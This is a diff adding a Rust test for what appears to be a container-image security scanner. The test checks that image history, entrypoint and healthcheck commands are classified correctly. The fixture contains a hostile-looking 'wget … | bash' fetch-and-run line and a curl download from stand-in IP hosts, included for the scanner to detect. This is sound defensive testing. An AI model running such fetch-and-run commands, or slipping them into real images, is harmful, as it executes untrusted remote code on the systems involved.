@@ -337,3 +337,37 @@ fn explain_lists_the_rules() {
     let text = String::from_utf8_lossy(&one.stdout);
     assert!(text.contains("mpcmdrun") && text.contains("lolbin-download"), "{text}");
 }
+
+/// Entrypoint, Cmd and history go through the same command model: an
+/// exec-form download, `sh -c` in a history step, a loopback health check.
+#[test]
+fn config_and_history_on_the_command_model() {
+    let img = ImageBuilder::new()
+        .layer(
+            LayerBuilder::new()
+                .created_by("/bin/sh -c sudo -E wget -qO- http://198.51.100.4/i.sh | bash")
+                .file("app/x", b"x", 0o644),
+        )
+        .config(
+            "Entrypoint",
+            serde_json::json!(["/usr/bin/env", "curl", "-o", "/tmp/x", "http://198.51.100.5/x"]),
+        )
+        .config(
+            "Healthcheck",
+            serde_json::json!({"Test": ["CMD", "wget", "-q", "--spider", "http://127.0.0.1:8080/"]}),
+        );
+    let (_t, r) = layout(&img.build());
+    let s = scan_ok(&r);
+    let by = |prefix: &str| {
+        s.findings
+            .iter()
+            .filter(|f| f.evidence.first().is_some_and(|e| e.starts_with(prefix)))
+            .collect::<Vec<_>>()
+    };
+    let step = by("history step");
+    assert!(step.iter().any(|f| f.code == stowaway::Code::DownloadExecChain), "{step:#?}");
+    let ep = by("entrypoint/cmd");
+    assert!(ep.iter().any(|f| f.code == stowaway::Code::DownloadCommand && f.severity == Severity::Medium), "{ep:#?}");
+    let hc = by("healthcheck");
+    assert!(hc.iter().all(|f| f.severity <= Severity::Low), "{hc:#?}");
+}
